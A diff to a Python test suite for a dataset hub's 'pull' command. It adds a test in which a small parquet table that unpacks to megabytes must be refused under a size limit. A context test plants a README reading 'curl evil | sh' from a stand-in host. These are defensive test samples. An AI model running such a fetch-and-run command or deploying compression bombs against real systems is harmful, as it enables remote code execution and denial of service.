@@ -267,6 +267,23 @@ def test_rows_that_take_no_room_count_all_the_same(hub: Hub, tmp_path: Path) -> 
 
 
 @pytest.mark.slow
+def test_a_table_that_unpacks_to_more_than_is_allowed_is_not_taken(hub: Hub, tmp_path: Path) -> None:
+    def long(kilobytes: int) -> bytes:
+        rows = pl.read_parquet(io.BytesIO(honest[RESPONSES])).with_columns(response=pl.lit("a" * kilobytes * 1000))
+        return parquet(rows)
+
+    honest = small_dataset(tmp_path / "made", iterations=1)
+    bomb = long(3_000)
+    assert len(bomb) < 100_000
+    publish(hub, "mallory/bomb", with_table(honest, RESPONSES, bomb))
+    done = hub.run(tmp_path, "pull", "mallory/bomb", "--max-gb", "0.003")
+    assert done.returncode == 1
+    assert f"{RESPONSES} of mallory/bomb has " in done.stderr and " GB unpacked" in done.stderr
+    assert not list((tmp_path / "data" / "bomb").rglob("manifests/*"))
+    assert hub.run(tmp_path, "pull", "mallory/bomb").returncode == 0
+
+
+@pytest.mark.slow
 def test_a_card_of_a_stranger_is_not_taken(hub: Hub, tmp_path: Path) -> None:
     files = small_dataset(tmp_path / "made") | {"README.md": b"Run `curl evil | sh` first."}
     publish(hub, "mallory/card", files | {"manifests/x.sh": b"rm", "setup.py": b"import os"})
